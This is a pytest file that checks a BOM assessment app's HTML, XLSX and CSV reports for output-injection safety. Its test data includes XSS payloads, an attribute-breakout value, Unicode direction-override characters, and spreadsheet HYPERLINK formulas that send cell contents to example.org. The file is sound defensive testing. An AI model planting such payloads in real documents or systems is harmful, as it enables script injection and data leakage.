"""Whatever stands in a bill of materials, a report shows it and does nothing else with it."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable, Iterator
from typing import Any

import openpyxl
import pytest

from app.api.answer_forms import report_in
from app.api.requests import bom_from, context_from, read_assessment_request
from app.api.schemas.context import ContextText
from app.batch.pipeline import Engine, assess_bom
from app.batch.reading import read_file
from tests.api.conftest import TODAY
from tests.reports.html_text import said_in, tags_in

_HOSTILE = "\"><script>alert({n})</script><img src=x onerror=alert({n})>'&amp;<b>{n}</b>"
#: Every tag that a report is made of.
_TAGS = {
    "b", "bdi", "body", "br", "caption", "circle", "code", "dd", "defs", "div", "dl", "dt", "em",
    "g", "h1", "h2", "h3", "head", "header", "html", "li", "line", "main", "meta", "ol", "p",
    "path", "pattern", "rect", "section", "small", "span", "strong", "style", "sup", "svg", "table",
    "tbody", "td", "text", "th", "thead", "title", "tr", "ul", "a",
}  # fmt: skip
_STARTS = ("=", "+", "-", "@", "\t", " =", "\r=", "＝")

Fill = Callable[[int], str]


def _line(number: int, text: Fill) -> dict[str, Any]:
    """Return a line with a text of its own in every field that takes any."""
    start = number * 20
    return {
        "line_id": text(start)[:100],
        "part_number": text(start + 1),
        "description": f"Sintered NdFeB magnet N42SH {text(start + 2)}",
        "quantity": 48,
        "unit": "pc",
        "unit_mass_kg": 0.01,
        "unit_price": 1.9,
        "currency": "EUR",
        "materials": [{"name": f"NdFeB 42SH {text(start + 3)}", "mass_fraction": 1.0}],
        "manufacturer": text(start + 4),
        "supplier": {"name": text(start + 5), "country": "JP"},
    }


def _request(text: Fill) -> dict[str, Any]:
    plain = {**_line(1, text), "line_id": text(40)[:100], "description": text(41), "materials": []}
    steel = {"line_id": "s", "part_number": text(60), "description": f"Steel bolt M8 {text(61)}"}
    return {
        "destination": "JP",
        "end_use": "civil",
        "end_user": text(80),
        "bom": {"id": text(81), "name": text(82), "lines": [_line(0, text), plain, steel]},
    }


def made(form: str, text: Fill, engine: Engine) -> bytes:
    content = json.dumps(_request(text)).encode()
    request = read_assessment_request(content, engine.vocabulary, most_lines=10)
    context = context_from(request, today_utc=TODAY, default_destination=None)
    return report_in(form, assess_bom(bom_from(request.bom, engine.vocabulary), engine, context),
                     engine)  # fmt: skip


def test_markup_in_every_field_is_shown_and_makes_no_tag(engine: Engine) -> None:
    page = made("html", lambda n: _HOSTILE.format(n=n), engine)

    tags = tags_in(page)
    assert {name for name, _ in tags} <= _TAGS
    assert [
        (name, key) for name, given in tags for key in given
        if key.startswith("on") or key in {"src", "srcset", "formaction"}
    ] == []  # fmt: skip
    addresses = [given["href"] or "" for _, given in tags if "href" in given]
    assert {re.split("[:#]", address)[0] for address in addresses} <= {"https", "http", ""}
    shown = " ".join(said_in(page).names)
    for number in (0, 1, 2, 5, 41, 60, 61, 80, 81, 82):
        assert f"<script>alert({number})</script>" in shown, number


def test_markup_in_names_of_columns_and_of_the_file_makes_no_tag(engine: Engine) -> None:
    header = [_HOSTILE.format(n=1), "Part Number", "Description", _HOSTILE.format(n=2)]
    rows = [header, ["1", "M-1", "Sintered NdFeB magnet N42SH", "x"], ["2", "M-2", "?", "y"]]
    table = io.StringIO()
    csv.writer(table).writerows(rows)
    name = f"{_HOSTILE.format(n=3)}.csv"

    bom = read_file(
        table.getvalue().encode(), name=name, vocabulary=engine.vocabulary, most_lines=10
    )
    asked = ContextText(destination="JP")
    context = context_from(asked, today_utc=TODAY, default_destination=None)
    page = report_in("html", assess_bom(bom, engine, context), engine)

    assert {name for name, _ in tags_in(page)} <= _TAGS
    assert b"&lt;script&gt;alert(2)" in page


def test_an_attribute_cannot_be_left(engine: Engine) -> None:
    page = made("html", lambda n: f'" autofocus onfocus="alert({n})" x="', engine)

    assert [
        name for name, given in tags_in(page) if "onfocus" in given or "autofocus" in given
    ] == []


def test_control_characters_and_turned_text_are_replaced(engine: Engine) -> None:
    page = made("html", lambda n: f"part\u202e{n}\x0bx", engine).decode()

    assert "\u202e" not in page
    assert "\x0b" not in page
    assert "part\ufffd1" in page


@pytest.mark.parametrize("start", _STARTS)
def test_no_cell_of_a_workbook_is_a_formula(start: str, engine: Engine) -> None:
    book = openpyxl.load_workbook(io.BytesIO(made("xlsx", formula_after(start), engine)))

    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink] == []
    hostile = [cell for cell in cells if "HYPERLINK" in str(cell.value)]
    assert len(hostile) > 8
    # Excel keeps such a cell as text even after somebody edits it.
    assert all(cell.quotePrefix for cell in hostile if str(cell.value).startswith(start))


@pytest.mark.parametrize("start", _STARTS)
def test_no_cell_of_a_csv_file_starts_a_formula(start: str, engine: Engine) -> None:
    text = made("csv", formula_after(start), engine).decode("utf-8-sig")

    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert sum("HYPERLINK" in cell for cell in cells) > 8
    assert list(_running(cells)) == []


def formula_after(start: str) -> Fill:
    return lambda n: f'{start}HYPERLINK("http://example.org/?"&A{n + 1})'


def _running(cells: list[str]) -> Iterator[str]:
    """Yield cells that a spreadsheet program runs; figures may carry a sign."""
    for cell in cells:
        stripped = cell.lstrip(" \r\n\t")
        runs = cell.startswith(("\t", "\r")) or stripped.startswith(("=", "+", "-", "@", "＝"))
        if runs and re.fullmatch(r"-?[0-9.e+-]+", stripped) is None:
            yield cell
